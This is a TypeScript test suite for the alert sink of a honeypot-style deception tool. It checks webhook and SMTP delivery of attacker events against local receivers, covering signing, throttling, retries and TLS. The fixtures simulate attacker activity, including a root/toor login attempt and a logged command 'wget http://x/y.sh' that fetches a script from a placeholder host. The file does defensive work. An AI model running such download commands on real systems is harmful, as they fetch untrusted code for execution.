import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { canonicalHash, type AlertSecret, type AttackerEvent, type ResolvedAlertRoute, type ResolvedFleet } from '@decnet/api';
import { writeAlertSecrets } from '@decnet/engine';
import { SMTPServer } from 'smtp-server';
import { afterAll, describe, expect, it } from 'vitest';
import { readAlertState } from './alert-queue.js';
import { AlertSink } from './alert-sink.js';
import { scratchDir } from '../../../test-scratch.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
async function until(what: string, f: () => boolean | Promise<boolean>, ms = 10_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await f())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await sleep(20);
  }
}

/** A real HTTP receiver on loopback that records every POST; can be taken down and brought back on its port. */
class Receiver {
  got: Array<{ headers: Record<string, string | string[] | undefined>; body: Record<string, unknown> }> = [];
  private srv?: Server;
  port = 0;
  status = 200;
  async up(port = 0): Promise<void> {
    this.srv = createServer((req, res) => {
      let b = '';
      req.on('data', (c: Buffer) => (b += c.toString()));
      req.on('end', () => {
        if (this.status === 200) this.got.push({ headers: req.headers, body: JSON.parse(b) as Record<string, unknown> });
        res.writeHead(this.status).end();
      });
    });
    await new Promise<void>((r) => this.srv!.listen(port, '127.0.0.1', () => r()));
    this.port = (this.srv.address() as AddressInfo).port;
  }
  async down(): Promise<void> {
    await new Promise<void>((r) => (this.srv ? (this.srv.closeAllConnections(), this.srv.close(() => r())) : r()));
    this.srv = undefined;
  }
  get url(): string {
    return `http://127.0.0.1:${this.port}/hook`;
  }
}
const receivers: Receiver[] = [];
afterAll(async () => {
  for (const r of receivers) await r.down();
});

const ev = (i: number, over: Partial<AttackerEvent> = {}): AttackerEvent => ({
  time: new Date().toISOString(),
  host: 'h1',
  fleet: 'lab',
  decky: 'web-01',
  service: 'ssh',
  event: 'auth_attempt',
  src_ip: `10.213.0.${100 + i}`,
  src_port: 40000 + i,
  principal: 'root',
  secret: 'toor',
  severity: 'medium',
  ...over,
});

async function setup(secret: AlertSecret, over: Partial<ResolvedAlertRoute> = {}, stateDir = scratchDir('decnet-alerts-')) {
  const route: ResolvedAlertRoute = { name: 'soc', type: 'webhook', minSeverity: 'low', throttleMs: 60_000, maxPerMinute: 600, tlsVerify: true, secretsDigest: canonicalHash(secret), ...over };
  const fleet: ResolvedFleet = { name: 'lab', labels: {}, network: { mode: 'macvlan', subnet: '10.213.0.0/24', gateway: '10.213.0.1' }, lab: true, alerts: [route] };
  await writeAlertSecrets(stateDir, { name: 'lab', labels: {}, alerts: [route] }, { soc: secret });
  const sink = (o: Partial<ConstructorParameters<typeof AlertSink>[0]> = {}) => {
    const s = new AlertSink({ stateDir, retryBaseMs: 100, retryMaxMs: 300, tickMs: 50, ...o });
    s.setFleets([fleet]);
    return s;
  };
  return { stateDir, route, fleet, sink };
}

describe('AlertSink (real HTTP and SMTP receivers on loopback)', () => {
  it('a touch reaches the webhook within a second with decky, service, source, principal and severity; signed; recorded as sent', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    const { sink: mk, stateDir } = await setup({ url: rx.url, secret: 'hmac-k' });
    const sink = mk();
    await sink.start();
    const t0 = Date.now();
    sink.write(ev(1));
    await until('webhook', () => rx.got.length === 1, 5000);
    expect(Date.now() - t0).toBeLessThan(1000);
    expect(rx.got[0]!.body).toMatchObject({ fleet: 'lab', decky: 'web-01', service: 'ssh', src_ip: '10.213.0.101', principal: 'root', severity: 'medium', count: 1 });
    expect(String(rx.got[0]!.headers['x-decnet-signature'])).toMatch(/^sha256=[0-9a-f]{64}$/);
    await until('recorded', async () => (await readAlertState(stateDir)).deliveries.length === 1);
    const st = await readAlertState(stateDir);
    expect(st.queued).toEqual([]);
    expect(st.deliveries[0]).toMatchObject({ state: 'sent', route: 'soc', decky: 'web-01', attempts: 1 });
    await sink.close();
  });

  it('throttle: 50 more attempts from the same source in the window are one grouped alert with count 50', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    const { sink: mk } = await setup({ url: rx.url }, { throttleMs: 800 });
    const sink = mk();
    await sink.start();
    sink.write(ev(1));
    for (let i = 0; i < 50; i++) sink.write(ev(1, { principal: `user${i}` }));
    await until('two alerts', () => rx.got.length === 2, 5000);
    await sleep(300);
    expect(rx.got.map((g) => [g.body['grouped'], g.body['count']])).toEqual([
      [false, 1],
      [true, 50],
    ]);
    await sink.close();
  });

  it('receiver down, then up on the same port: every alert arrives exactly once, in order', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    const port = rx.port;
    await rx.down();
    const { sink: mk, stateDir } = await setup({ url: `http://127.0.0.1:${port}/hook` });
    const sink = mk();
    await sink.start();
    for (let i = 0; i < 5; i++) sink.write(ev(i));
    await until('retried', async () => (await readAlertState(stateDir)).queued.some((q) => q.attempts >= 2));
    expect((await readAlertState(stateDir)).queued[0]!.lastError).toMatch(/ECONNREFUSED/);
    await rx.up(port);
    await until('all five', () => rx.got.length === 5, 8000);
    await sleep(500);
    expect(rx.got.map((g) => g.body['src_ip'])).toEqual([0, 1, 2, 3, 4].map((i) => `10.213.0.${100 + i}`));
    expect(new Set(rx.got.map((g) => g.headers['x-decnet-alert-id'])).size).toBe(5);
    await sink.close();
  });

  it('alerts queued when the controller stops are sent by the next one (the queue is on disk)', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    const port = rx.port;
    await rx.down();
    const { sink, stateDir } = await setup({ url: `http://127.0.0.1:${port}/hook` });
    const first = sink();
    await first.start();
    for (let i = 0; i < 3; i++) first.write(ev(i));
    await first.flush(500);
    await first.close();
    expect((await readAlertState(stateDir)).queued).toHaveLength(3);
    await rx.up(port);
    const second = sink();
    await second.start();
    await until('delivered after restart', () => rx.got.length === 3, 8000);
    await second.close();
    expect((await readAlertState(stateDir)).queued).toEqual([]);
  });

  it('an HTTP 4xx is a permanent failure (recorded, not retried); a URL that does not match the route is never used', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    rx.status = 404;
    const { sink: mk, stateDir } = await setup({ url: rx.url });
    const sink = mk();
    await sink.start();
    sink.write(ev(1));
    await until('failed', async () => (await readAlertState(stateDir)).deliveries.some((d) => d.state === 'failed'));
    expect((await readAlertState(stateDir)).deliveries[0]).toMatchObject({ state: 'failed', error: expect.stringMatching(/HTTP 404/) });
    await sink.close();
    // the state dir holds an older URL than the route's digest says: held back, not sent to it
    const rx2 = new Receiver();
    receivers.push(rx2);
    await rx2.up();
    const other = await setup({ url: rx2.url });
    const s2 = new AlertSink({ stateDir: other.stateDir, tickMs: 50, retryBaseMs: 100 });
    s2.setFleets([{ ...other.fleet, alerts: [{ ...other.route, secretsDigest: 'something-else' }] }]);
    await s2.start();
    s2.write(ev(2));
    await until('held', async () => (await readAlertState(other.stateDir)).queued[0]?.lastError !== undefined);
    expect((await readAlertState(other.stateDir)).queued[0]!.lastError).toMatch(/no URL for route soc/);
    expect(rx2.got).toEqual([]);
    await s2.close();
  });

  it('rate limit per target: maxPerMinute 2 sends two and holds the third', async () => {
    const rx = new Receiver();
    receivers.push(rx);
    await rx.up();
    const { sink: mk } = await setup({ url: rx.url }, { maxPerMinute: 2 });
    const sink = mk();
    await sink.start();
    for (let i = 0; i < 3; i++) sink.write(ev(i));
    await until('two', () => rx.got.length === 2);
    await sleep(600);
    expect(rx.got).toHaveLength(2);
    expect(sink.pending()).toBe(1);
    await sink.close();
  });

  it('email: STARTTLS then AUTH, to the local SMTP receiver; credentials never sent in the clear', async () => {
    const dir = scratchDir('decnet-alert-tls-');
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'k.pem'), '-out', join(dir, 'c.pem'), '-days', '1', '-subj', '/CN=127.0.0.1'], { stdio: 'ignore' });
    const mails: Array<{ from: string; to: string[]; data: string; user: string; secure: boolean }> = [];
    let authInClear = false;
    const smtp = new SMTPServer({
      key: readFileSync(join(dir, 'k.pem')),
      cert: readFileSync(join(dir, 'c.pem')),
      authMethods: ['PLAIN', 'LOGIN'],
      allowInsecureAuth: true,
      logger: false,
      onAuth(auth, session, cb) {
        if (!session.secure) authInClear = true;
        if (auth.username === 'alerts' && auth.password === 'p@ss') cb(null, { user: auth.username });
        else cb(new Error('bad credentials'));
      },
      onData(stream, session, cb) {
        let data = '';
        stream.on('data', (c: Buffer) => (data += c.toString()));
        stream.on('end', () => {
          mails.push({ from: session.envelope.mailFrom ? session.envelope.mailFrom.address : '', to: session.envelope.rcptTo.map((r) => r.address), data, user: String(session.user), secure: session.secure });
          cb();
        });
      },
    });
    await new Promise<void>((r) => smtp.listen(0, '127.0.0.1', () => r()));
    const port = (smtp.server.address() as AddressInfo).port;
    try {
      const { sink: mk } = await setup({ url: `smtp://alerts:${encodeURIComponent('p@ss')}@127.0.0.1:${port}` }, { type: 'email', to: ['soc@example.org'], from: 'decnet@example.org', tlsVerify: false });
      const sink = mk();
      await sink.start();
      sink.write(ev(7, { event: 'command', command: 'wget http://x/y.sh', severity: 'high' }));
      await until('mail', () => mails.length === 1, 10_000);
      expect(mails[0]).toMatchObject({ from: 'decnet@example.org', to: ['soc@example.org'], user: 'alerts', secure: true });
      expect(mails[0]!.data).toMatch(/Subject: decnet high: 10\.213\.0\.107 touched decky web-01/);
      expect(mails[0]!.data).toContain('wget http://x/y.sh');
      expect(authInClear).toBe(false);
      await sink.close();
    } finally {
      await new Promise<void>((r) => smtp.close(() => r()));
    }
  }, 20_000);
});
